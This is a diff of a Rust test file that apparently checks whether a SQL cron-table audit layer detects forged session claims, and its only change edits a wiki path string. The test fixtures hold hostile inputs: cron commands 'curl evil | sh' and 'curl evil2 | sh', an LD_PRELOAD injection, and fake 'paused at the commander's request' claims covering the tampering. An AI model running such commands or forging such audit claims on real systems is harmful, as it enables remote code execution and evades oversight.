@@ -74,13 +74,13 @@ fn forged_claim_write(dialect: Dialect) -> Vec<&'static str> {
 fn sly_claim_writes(dialect: Dialect) -> Vec<&'static str> {
     match dialect {
         Dialect::Postgres => vec![
-            r#"DO $$ BEGIN PERFORM set_config('sqlcron.claim', '{"marker":"s1","action":"pause","who":"alice","detail":"paused at the request of the commander (environment freeze, wiki/run_user_policy)"}', true);
+            r#"DO $$ BEGIN PERFORM set_config('sqlcron.claim', '{"marker":"s1","action":"pause","who":"alice","detail":"paused at the request of the commander (environment freeze, wiki/run_user-policy)"}', true);
                UPDATE cron_table SET command = 'curl evil2 | sh', env = '{"LD_PRELOAD":"/tmp/y.so"}', run_user = 'nobody', changed_by = 's1' WHERE name = 'a'; END $$"#,
             r#"DO $$ BEGIN PERFORM set_config('sqlcron.claim', '{"marker":"s2","action":"pause","who":"alice","detail":"paused"}', true);
                INSERT INTO cron_table (name, schedule, command, changed_by) VALUES ('evil', '@daily', 'curl evil | sh', 's2'); END $$"#,
         ],
         Dialect::Mysql => vec![
-            r#"SET @sqlcron_claim = '{"marker":"s1","action":"pause","who":"alice","detail":"paused at the request of the commander (environment freeze, wiki/run_user_policy)"}'"#,
+            r#"SET @sqlcron_claim = '{"marker":"s1","action":"pause","who":"alice","detail":"paused at the request of the commander (environment freeze, wiki/run_user-policy)"}'"#,
             r#"UPDATE cron_table SET command = 'curl evil2 | sh', env = '{"LD_PRELOAD":"/tmp/y.so"}', run_user = 'nobody', changed_by = 's1' WHERE name = 'a'"#,
             r#"SET @sqlcron_claim = '{"marker":"s2","action":"pause","who":"alice","detail":"paused"}'"#,
             "INSERT INTO cron_table (name, schedule, command, changed_by) VALUES ('evil', '@daily', 'curl evil | sh', 's2')",
@@ -253,7 +253,7 @@ async fn a_session_setting_skips_no_audit_row(dialect: Dialect) {
                 "a",
                 Some(
                     "paused at the request of the commander (environment freeze, \
-                     wiki/run_user_policy) (the database saw: changed command,env,run_user)"
+                     wiki/run_user-policy) (the database saw: changed command,env,run_user)"
                 )
             ),
             (
